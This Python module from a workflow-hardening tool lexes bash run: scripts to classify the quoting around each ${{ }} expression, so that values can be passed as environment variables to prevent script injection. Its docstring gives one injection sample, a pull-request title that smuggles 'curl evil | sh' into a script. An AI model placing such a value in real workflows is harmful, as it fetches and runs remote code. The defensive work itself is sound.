"""Where each ``${{ }}`` of a ``run:`` script sits, as bash would read the text around it.

A ``run:`` script must never receive a value as script text (a pull-request title of
``x"; curl evil | sh; echo "`` would run). Each ``${{ }}`` becomes a reference to an
environment variable instead, and the right spelling of that reference depends on the
quoting around the spot: ``"$V"`` where nothing quotes it, ``$V`` inside double quotes,
``'"$V"'`` inside single quotes, and so on (``shell_script``). This module finds that
quoting with a small lexer of the bash subset scripts actually use: quotes, ``$'…'``,
backslashes, comments, ``$( )``, backticks, ``${ }``, arithmetic and here-documents.

It also notices when a spot is an argument of ``eval`` or of ``sh -c``/``bash -c``, or
in a here-document a shell reads as its script (``bash <<EOF``): there the text is read
twice, so the reference must survive the first reading.

The lexer is forgiving: a script it cannot follow (an unclosed quote) still gets a
classification for every spot, the most cautious one it can tell.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from enum import StrEnum


class Quoting(StrEnum):
    """What quotes a spot of the script."""

    UNQUOTED = "unquoted"
    DOUBLE = "double quotes"
    SINGLE = "single quotes"
    ANSI_C = "$'...' quotes"
    HEREDOC = "here-document"
    QUOTED_HEREDOC = "quoted here-document"
    ARITHMETIC = "arithmetic"
    COMMENT = "comment"


@dataclass(frozen=True)
class Spot:
    """The reading of one ``${{ }}``: its quoting, and whether the shell reads it twice."""

    quoting: Quoting
    is_code: bool = False
    """An argument of ``eval`` or ``sh -c``: the text is parsed again as a script."""
    in_substitution: bool = False
    """Inside ``$( )`` or backticks."""


_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/env"})
_PREFIX_WORDS = frozenset(
    {"if", "then", "else", "elif", "while", "until", "do", "!", "time", "{", "exec", "command"}
)
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\+?=")
_OPERATORS = ";&|"
_DELIMITER_END = " \t\n;&|<>()"


@dataclass
class _Command:
    """The words of the simple command being read, to tell ``eval x`` from ``echo x``."""

    words: list[str] = field(default_factory=list)
    current: str | None = None

    def add(self, text: str) -> None:
        self.current = (self.current or "") + text

    def end_word(self) -> None:
        if self.current is not None:
            self.words.append(self.current)
            self.current = None

    def reset(self) -> None:
        self.words, self.current = [], None

    @property
    def at_start(self) -> bool:
        return self.current is None and not self._significant()

    @property
    def is_code(self) -> bool:
        words = self._significant()
        if not words:
            return False
        # Any word, not just the first: wrappers (``timeout 60 bash -c``, ``sudo sh -c``,
        # ``find -exec sh -c``, ``xargs sh -c``) hand the text to a shell all the same.
        # Mistaking an argument for a shell only makes the value reach it by reference.
        names = [word.rsplit("/", 1)[-1] for word in words]
        if names[0] == "eval":  # a builtin: no wrapper can run it
            return True
        for index, name in enumerate(names):
            if name in ("sh", "bash", "dash", "zsh", "ksh") or words[index] in _SHELLS:
                flags = words[index + 1 :]
                if any(re.fullmatch(r"-[a-z]*c[a-z]*", word) for word in flags):
                    return True
        return False

    @property
    def reads_script_from_stdin(self) -> bool:
        """``bash <<EOF``: a shell without ``-c`` runs its here-document as a script."""
        words = self._significant()
        if not words or words[0].rsplit("/", 1)[-1] not in ("sh", "bash", "dash", "zsh", "ksh"):
            return False
        return not any(re.fullmatch(r"-[a-z]*c[a-z]*", word) for word in words[1:])

    def _significant(self) -> list[str]:
        words = list(self.words)
        if self.current is not None:
            words.append(self.current)
        while words and (words[0] in _PREFIX_WORDS or _ASSIGNMENT.match(words[0])):
            words.pop(0)
        return words


@dataclass
class _Heredoc:
    delimiter: str
    is_quoted: bool
    strips_tabs: bool
    is_code: bool


def classify(text: str, spans: Sequence[tuple[int, int]]) -> list[Spot]:
    """One ``Spot`` per ``(start, end)`` span of ``text`` (sorted, not overlapping)."""
    lexer = _Lexer(text, spans)
    lexer.command(0, closer=None, depth=0)
    default = Spot(Quoting.UNQUOTED)
    return [lexer.found.get(start, default) for start, _ in spans]


class _Lexer:
    def __init__(self, text: str, spans: Sequence[tuple[int, int]]) -> None:
        self.text = text
        self.ends = dict(spans)
        self.found: dict[int, Spot] = {}

    def _at(self, index: int, prefix: str) -> bool:
        return self.text.startswith(prefix, index)

    def _record(self, index: int, quoting: Quoting, is_code: bool, depth: int) -> int:
        self.found[index] = Spot(quoting, is_code, depth > 0)
        return self.ends[index]

    def command(self, index: int, closer: str | None, depth: int) -> int:
        """Read commands until ``closer`` (``)`` or a backtick) or the end; return after it."""
        text, command, parens = self.text, _Command(), 0
        pending: list[_Heredoc] = []
        while index < len(text):
            char = text[index]
            if index in self.ends:
                command.add("")
                index = self._record(index, Quoting.UNQUOTED, command.is_code, depth)
            elif char == "\\":
                command.add(text[index + 1 : index + 2].strip("\n"))
                index += 2
            elif char == "'":
                command.add("")
                index = self.quoted(index + 1, "'", Quoting.SINGLE, command.is_code, depth)
            elif self._at(index, "$'"):
                command.add("")
                index = self.quoted(index + 2, "'", Quoting.ANSI_C, command.is_code, depth)
            elif char == '"':
                command.add("")
                index = self.double(index + 1, command.is_code, depth)
            elif char == "$" or char == "`":
                command.add("$")
                index = self.expansion(index, Quoting.UNQUOTED, command.is_code, depth)
            elif char == "#" and command.current is None:
                index = self.comment(index, command.is_code, depth)
            elif self._at(index, "<<") and not self._at(index, "<<<"):
                command.end_word()
                is_code = command.reads_script_from_stdin
                index = self.heredoc_operator(index + 2, pending, is_code)
            elif self._at(index, "((") and command.at_start:
                index = self.arithmetic(index + 2, command.is_code, depth)
            elif char == closer and (closer == "`" or parens == 0):
                return index + 1
            elif char in "()":
                parens += 1 if char == "(" else -1
                command.end_word()
                command.reset()
                index += 1
            elif char == "\n":
                command.end_word()
                command.reset()
                index = self.heredoc_bodies(index + 1, pending, depth)
                pending = []
            elif char in _OPERATORS:
                command.end_word()
                command.reset()
                index += 1
            elif char in " \t":
                command.end_word()
                index += 1
            else:
                command.add(char)
                index += 1
        return index

    def quoted(self, index: int, end: str, quoting: Quoting, is_code: bool, depth: int) -> int:
        """Single quotes or ``$'…'``: nothing expands; ``$'…'`` honours backslashes."""
        while index < len(self.text):
            if index in self.ends:
                index = self._record(index, quoting, is_code, depth)
            elif self.text[index] == "\\" and quoting is Quoting.ANSI_C:
                index += 2
            elif self.text[index] == end:
                return index + 1
            else:
                index += 1
        return index

    def double(self, index: int, is_code: bool, depth: int, *, stop: int | None = None) -> int:
        """Double quotes, or (``stop`` given) an unquoted here-document body up to ``stop``."""
        quoting = Quoting.DOUBLE if stop is None else Quoting.HEREDOC
        limit = len(self.text) if stop is None else stop
        while index < limit:
            char = self.text[index]
            if index in self.ends:
                index = self._record(index, quoting, is_code, depth)
            elif char == "\\":
                index += 2
            elif char == '"' and stop is None:
                return index + 1
            elif char in "$`":
                index = self.expansion(index, quoting, is_code, depth)
            else:
                index += 1
        return index

    def expansion(self, index: int, quoting: Quoting, is_code: bool, depth: int) -> int:
        """``$((…))``, ``$(…)``, backticks, ``${…}``, or a plain ``$``: return after it."""
        if self._at(index, "$(("):
            return self.arithmetic(index + 3, is_code, depth)
        if self._at(index, "$("):
            return self.command(index + 2, ")", depth + 1)
        if self._at(index, "`"):
            return self.command(index + 1, "`", depth + 1)
        if self._at(index, "${") and index + 1 not in self.ends:
            return self.parameter(index + 2, quoting, is_code, depth)
        return index + 1

    def parameter(self, index: int, quoting: Quoting, is_code: bool, depth: int) -> int:
        """``${name…word}``: the word is read with the quoting around the braces."""
        while index < len(self.text):
            char = self.text[index]
            if index in self.ends:
                index = self._record(index, quoting, is_code, depth)
            elif char == "\\":
                index += 2
            elif char == '"':
                index = self.double(index + 1, is_code, depth)
            elif char in "$`":
                index = self.expansion(index, quoting, is_code, depth)
            elif char == "}":
                return index + 1
            else:
                index += 1
        return index

    def arithmetic(self, index: int, is_code: bool, depth: int) -> int:
        """``$(( … ))`` or ``(( … ))``: bash evaluates a value here as an expression."""
        parens = 0
        while index < len(self.text):
            if index in self.ends:
                index = self._record(index, Quoting.ARITHMETIC, is_code, depth)
            elif self._at(index, "$("):
                index = self.expansion(index, Quoting.ARITHMETIC, is_code, depth)
            elif self._at(index, "))") and parens == 0:
                return index + 2
            else:
                parens += {"(": 1, ")": -1}.get(self.text[index], 0)
                index += 1
        return index

    def comment(self, index: int, is_code: bool, depth: int) -> int:
        while index < len(self.text) and self.text[index] != "\n":
            if index in self.ends:
                index = self._record(index, Quoting.COMMENT, is_code, depth)
            else:
                index += 1
        return index

    def heredoc_operator(self, index: int, pending: list[_Heredoc], is_code: bool) -> int:
        """``<<WORD``, ``<<-WORD``, ``<<'WORD'``: remember it; its body starts next line."""
        strips_tabs = self._at(index, "-")
        index += 1 if strips_tabs else 0
        while index < len(self.text) and self.text[index] in " \t":
            index += 1
        start = index
        while index < len(self.text) and self.text[index] not in _DELIMITER_END:
            if self.text[index] in "'\"":
                closing = self.text.find(self.text[index], index + 1)
                index = len(self.text) if closing < 0 else closing + 1
            else:
                index += 2 if self.text[index] == "\\" else 1
        word = self.text[start:index]
        is_quoted = any(mark in word for mark in "'\"\\")
        delimiter = re.sub(r"[\"'\\]", "", word)
        if delimiter:
            pending.append(_Heredoc(delimiter, is_quoted, strips_tabs, is_code))
        return index

    def heredoc_bodies(self, index: int, pending: list[_Heredoc], depth: int) -> int:
        """The bodies of the here-documents opened on the line just ended, in order."""
        for heredoc in pending:
            body_end, after = self._body_end(index, heredoc)
            if heredoc.is_quoted:
                for start in [s for s in self.ends if index <= s < body_end]:
                    self._record(start, Quoting.QUOTED_HEREDOC, heredoc.is_code, depth)
            else:
                self.double(index, heredoc.is_code, depth, stop=body_end)
            index = after
        return index

    def _body_end(self, index: int, heredoc: _Heredoc) -> tuple[int, int]:
        """Where the body ends (its delimiter line starts) and where reading resumes."""
        position = index
        while position < len(self.text):
            newline = self.text.find("\n", position)
            line_end = len(self.text) if newline < 0 else newline
            line = self.text[position:line_end]
            if (line.lstrip("\t") if heredoc.strips_tabs else line) == heredoc.delimiter:
                return position, min(line_end + 1, len(self.text))
            position = line_end + 1
        return len(self.text), len(self.text)
